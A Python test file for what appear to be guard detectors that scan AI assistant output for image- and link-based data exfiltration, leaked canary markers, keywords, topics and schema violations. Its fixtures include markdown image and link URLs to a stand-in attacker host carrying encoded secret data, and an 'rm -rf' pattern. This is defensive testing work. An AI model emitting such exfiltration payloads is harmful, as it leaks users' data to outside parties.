"""Exfiltration, canary, keyword lists and structured-output schemas."""

from __future__ import annotations

import random
import re

import pytest

from tollhouse.guards.detector import CallState
from tollhouse.guards.detectors.canary import CanaryDetector, canary_line, new_canary
from tollhouse.guards.detectors.exfiltration import ExfiltrationDetector
from tollhouse.guards.detectors.keywords import KeywordDetector, literal_prefix
from tollhouse.guards.detectors.schema import SchemaDetector, check_schema
from tollhouse.guards.verdict import Scope

EXFIL = ExfiltrationDetector(frozenset({"docs.example.com"}))


def _kinds(
    detector: object, text: str, state: CallState | None = None, scope: Scope = Scope.ASSISTANT
) -> list[str]:
    return [f.kind for f in detector.detect(text, scope, state or CallState())]  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("![x](https://evil.example/p.png?q=c2VjcmV0IGRhdGE)", ["image_exfiltration"]),
        ('<img src="https://evil.example/a.gif?u=alice&k=123456">', ["image_exfiltration"]),
        ("[click](https://evil.example/collect?data=dGhlIHVzZXIncyBzZWNyZXQ)", ["link_exfiltration"]),
        ("![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE)", ["data_url"]),
        ("![ok](https://docs.example.com/a.png?v=123456789)", []),  # allowed host
        ("[docs](https://python.org/3/library/re.html)", []),  # a plain link carries nothing
        ("See ![chart](https://evil.example/chart.png)", []),  # no data in the URL
    ],
)
def test_exfiltration(text: str, kinds: list[str]) -> None:
    assert _kinds(EXFIL, text) == kinds


def test_all_images_can_be_blocked() -> None:
    strict = ExfiltrationDetector(frozenset(), block_all_images=True)
    assert _kinds(strict, "![c](https://evil.example/chart.png)") == ["image_exfiltration"]


def test_canary() -> None:
    canary = new_canary()
    state = CallState(canary=canary)
    assert canary in canary_line(canary)
    assert _kinds(CanaryDetector(), f"my instructions say {canary}", state) == ["canary_leak"]
    assert _kinds(CanaryDetector(), f"the marker is {canary[10:]}", state) == ["canary_leak"]
    assert _kinds(CanaryDetector(), "nothing here", state) == []
    assert _kinds(CanaryDetector(), canary) == []  # no canary planted for this call


def test_keywords_topics_patterns() -> None:
    detector = KeywordDetector(
        ["project falcon", "acme"], [r"\bINV-\d{6}\b"], {"weapons": ["rifle", "ammunition"]}
    )
    text = "Re: Project  Falcon for ACME, invoice INV-123456; no rifles (but a rifle)."
    assert _kinds(detector, text) == ["keyword", "keyword", "topic:weapons", "pattern"]
    assert _kinds(detector, "acmeville") == []


def test_schema() -> None:
    schema = {"type": "object", "properties": {"n": {"type": "integer"}}, "required": ["n"]}
    fixed = SchemaDetector(schema)
    assert _kinds(fixed, '{"n": 1}') == []
    assert _kinds(fixed, '{"n": "x"}') == ["schema_violation"]
    assert _kinds(fixed, "not json") == ["schema_not_json"]
    assert _kinds(fixed, "not json", scope=Scope.USER) == []
    requested = SchemaDetector()
    assert _kinds(requested, "not json") == []  # nothing asked for
    assert _kinds(requested, "{}", CallState(schema=schema)) == ["schema_violation"]
    with pytest.raises(ValueError, match="invalid JSON schema"):
        check_schema({"type": "no-such-type"})


@pytest.mark.parametrize(
    ("pattern", "prefix"),
    [
        (r"\bINV-\d{6}\b", "INV-"),
        (r"^ACME", "ACME"),
        (r"rm -rf", "rm -rf"),
        (r"\.\-x?", ".-"),  # escaped punctuation is literal; "x?" may be absent
        (r"AB*C", "A"),
        (r"INV-(?=\d)", "INV-"),
        (r"(?i)inv-\d+", ""),  # any case: no literal to look for
        (r"INV|ACME", ""),  # alternatives: no common start
        (r"\d{3}-\d{2}", ""),
        (r"(?m)^\s*INV", ""),
        (r"[A-Z]{3}-\d+", ""),
    ],
)
def test_literal_prefix(pattern: str, prefix: str) -> None:
    assert literal_prefix(re.compile(pattern)) == prefix


def test_patterns_are_scanned_from_their_prefix_with_anchors_intact() -> None:
    patterns = [r"\bINV-\d{6}\b", r"^INV", r"INV-(?=\d)", r"(?<=#)INV", r"(?i)inv-\d", r"INV|ACME-\d"]
    detector = KeywordDetector(patterns=patterns)
    texts = ["xINV-123456 INV-123456", "INV at the start", "#INV-1 and INV-2", "acme-1 Inv-2", "nothing"]
    for text in texts:
        plain = sorted((m.start(), m.end()) for p in patterns for m in re.finditer(p, text))
        assert sorted((f.start, f.end) for f in detector.detect(text, Scope.USER, CallState())) == plain
    invoice = KeywordDetector(patterns=[r"\bINV-\d{6}\b"])
    assert _kinds(invoice, "xINV-123456") == []  # \b sees the "x" before where the scan starts


def test_keyword_lists_are_matched_where_their_words_start_as_a_full_scan_finds_them() -> None:
    # ASCII lists in texts without case mates are matched only where a gate word occurs; the
    # findings must be a full scan's, also for overlapping words, other scripts, odd spaces and
    # the characters that fold with ASCII letters (those texts take the full scan).
    keywords = ["project falcon", "falcon", "oo", "foo bar", "k", "c++", "sk", "I"]
    topics = {"mixed": ["stra\u00dfe", "salary"], "plain": ["refund", "charge back"]}
    detector = KeywordDetector(keywords, topics=topics)
    lists = [("keyword", keywords), ("topic:mixed", topics["mixed"]), ("topic:plain", topics["plain"])]
    pieces = [
        "Project", "FALCON", "project\u00a0falcon", "foo", "FOO BAR", "ooo", "k", "\u212a", "\u017fk",
        "\u0130", "\u0131", "c++", "C++x", "i", "Stra\u00dfe", "STRASSE", "Refund", "charge\tback",
        " ", "  ", "\n", "x", "_", "\u00e9", "\u2014", "sk", "SALARY",
    ]  # fmt: skip
    rng = random.Random(3)
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 12)))
        expected = []
        for kind, words in lists:
            entry = next(x for x in detector._lists if x.kind == kind)
            if any(w.split()[0].lower() in text.lower() for w in words):
                expected += [(kind, m.start(), m.end()) for m in entry.pattern.finditer(text)]
        found = [(f.kind, f.start, f.end) for f in detector.detect(text, Scope.USER, CallState())]
        assert found == expected, repr(text)
